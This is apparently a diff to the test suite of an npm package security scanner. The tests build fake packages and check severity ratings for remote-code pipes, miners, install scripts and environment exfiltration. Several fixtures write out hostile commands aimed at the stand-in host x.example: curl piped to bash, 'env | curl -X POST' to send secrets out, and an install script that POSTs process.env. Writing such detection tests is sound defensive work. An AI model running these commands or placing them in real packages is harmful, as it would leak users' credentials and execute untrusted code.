@@ -59,7 +59,7 @@ test('a benign library with env, network, child_process and fs writes has only I
   const net = find(a, 'capability_network')!;
   assert.is(net.severity, 'INFO');
   assert.is(net.file, 'package/index.js');
-  assert.is(net.line, 1);
+  assert.is(net.line, 7, "the first network call, not the import");
   assert.equal(a.installScripts, []);
   assert.ok(['CLEAR', 'MONITORED'].includes(verdict(a).securityLevel));
 });
@@ -148,6 +148,18 @@ test('javascript-obfuscator output is MEDIUM, HIGH when it also evaluates code',
   assert.is(find(b, 'obfuscated_exec')?.severity, 'HIGH');
 });
 
+test('download piped into a shell: HIGH when code runs it, LOW in a shipped script; miners; shell exfiltration', async () => {
+  const js = await npm(npmTgz({ 'package.json': PKG, 'a.js': "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://x.example/i.sh | bash');\n" }));
+  assert.is(find(js, 'remote_code_exec')?.severity, 'HIGH');
+  const sh = await npm(npmTgz({ 'package.json': PKG, 'scripts/install-cli.sh': '#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n' }));
+  assert.is(find(sh, 'remote_code_pipe')?.severity, 'LOW');
+  const shebang = await npm(npmTgz({ 'package.json': PKG, 'bin/run': '#!/bin/sh\nenv | curl -X POST --data-binary @- https://x.example/c\n' }));
+  assert.is(find(shebang, 'exfil_env_dump')?.severity, 'CRITICAL');
+  const miner = await npm(npmTgz({ 'package.json': PKG, 'm.js': "const pool = 'stratum+tcp://pool.example:3333';" }));
+  assert.is(find(miner, 'crypto_miner')?.severity, 'HIGH');
+  assert.ok(miner.capabilities.includes('crypto-mining'));
+});
+
 // ---------------------------------------------------------------------------------------------
 // Install scripts
 
@@ -192,6 +204,11 @@ test('local build install scripts are LOW/INFO; a script file that downloads is 
 
   const bad = await npm(npmTgz({ 'package.json': JSON.stringify({ name: 'n', version: '1.0.0', scripts: { preinstall: 'node setup.js' } }), 'setup.js': "const e = JSON.stringify(process.env);\nfetch('https://x.example', { method: 'POST', body: e });" }));
   assert.is(find(bad, 'install_script_runs_malicious')?.severity, 'CRITICAL');
+  assert.is(find(bad, 'exfil_env_dump')?.severity, 'CRITICAL');
+
+  // Padding the install file past the scan limit does not hide it.
+  const padded = await npm(npmTgz({ 'package.json': JSON.stringify({ name: 'n', version: '1.0.0', scripts: { install: 'node big.js' } }), 'big.js': `/*${' '.repeat(2000)}*/` }), { maxFileBytes: 1000 });
+  assert.is(find(padded, 'install_script_unscanned')?.severity, 'MEDIUM');
 });
 
 test('setup.py with urllib at module level is CRITICAL; a declarative setup.py has no install script', async () => {
